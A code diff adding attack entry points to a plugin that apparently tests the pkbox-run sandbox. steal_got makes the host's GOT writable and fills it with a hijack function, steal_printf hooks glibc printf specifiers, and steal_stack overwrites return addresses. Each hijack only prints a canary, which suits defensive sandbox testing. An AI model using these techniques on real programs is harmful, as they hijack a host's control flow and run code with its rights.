@@ -2,6 +2,8 @@
 /* thief.c - a plugin that tries the catalogue against pkbox-run's canary:
  * each entry point is one attack; all print what they could read. */
 #include <fcntl.h>
+#include <link.h>
+#include <printf.h>
 #include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -181,4 +183,95 @@ void child_entry(void)
 		usleep(10000);
 	}
 	syscall(SYS_exit, 0);
+}
+
+/* A11: key-0 state pkbox-run runs through after the call.  Each plants
+ * hijack() where host code would call it; if it ever runs, it runs with the
+ * host's rights and prints the canary. */
+static void hijack(void)
+{
+	show(canary());
+	syscall(SYS_exit_group, 0);
+}
+
+struct main_obj {
+	uintptr_t relro_lo, relro_hi, text_lo, text_hi;
+};
+
+static int find_main(struct dl_phdr_info *info, size_t size, void *data)
+{
+	struct main_obj *m = data;
+
+	(void)size;
+	if (info->dlpi_name && info->dlpi_name[0])
+		return 0; /* the program itself has no name here */
+	for (int i = 0; i < info->dlpi_phnum; i++) {
+		const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
+		uintptr_t lo = info->dlpi_addr + ph->p_vaddr;
+
+		if (ph->p_type == PT_GNU_RELRO) {
+			m->relro_lo = lo & ~4095UL;
+			m->relro_hi = (lo + ph->p_memsz + 4095) & ~4095UL;
+		} else if (ph->p_type == PT_LOAD && (ph->p_flags & PF_X)) {
+			m->text_lo = lo;
+			m->text_hi = lo + ph->p_memsz;
+		}
+	}
+	return 1;
+}
+
+ENTRY(steal_got) /* A11/A4: make pkbox-run's GOT writable and fill it with hijack() */
+{
+	(void)argc; (void)argv;
+	struct main_obj m = { 0, 0, 0, 0 };
+
+	dl_iterate_phdr(find_main, &m);
+	if (!m.relro_lo)
+		return 3;
+	if (syscall(SYS_mprotect, m.relro_lo, m.relro_hi - m.relro_lo, PROT_READ | PROT_WRITE))
+		return 4;
+	for (uintptr_t *p = (uintptr_t *)m.relro_lo; p < (uintptr_t *)m.relro_hi; p++)
+		if (*p >= 0x1000)
+			*p = (uintptr_t)hijack;
+	return 0;
+}
+
+static int hook_print(FILE *f, const struct printf_info *info, const void *const *args)
+{
+	(void)f; (void)info; (void)args;
+	hijack();
+	return 0;
+}
+
+static int hook_arginfo(const struct printf_info *info, size_t n, int *types, int *sizes)
+{
+	(void)info; (void)sizes;
+	if (n > 0)
+		types[0] = PA_POINTER;
+	return 1;
+}
+
+ENTRY(steal_printf) /* A11: hooks in the C library's printf tables, then a fault for the host to report */
+{
+	(void)argc; (void)argv;
+	register_printf_specifier('s', hook_print, hook_arginfo);
+	register_printf_specifier('d', hook_print, hook_arginfo);
+	register_printf_specifier('x', hook_print, hook_arginfo);
+	return canary()[0];
+}
+
+/* (not instrumented: an attacker's code has no sanitizer watching it) */
+__attribute__((no_sanitize_address)) int steal_stack(int argc, char **argv);
+ENTRY(steal_stack) /* A11: rewrite every return address into pkbox-run on its stack */
+{
+	(void)argc; (void)argv;
+	struct main_obj m = { 0, 0, 0, 0 };
+	extern void *__libc_stack_end;
+
+	dl_iterate_phdr(find_main, &m);
+	uintptr_t *top = (uintptr_t *)__libc_stack_end;
+	for (uintptr_t *p = top - 1; p > top - 32768 / sizeof(*p); p--)
+		if (*p >= m.text_lo && *p < m.text_hi)
+			*p = (uintptr_t)hijack;
+	return 0;
 }
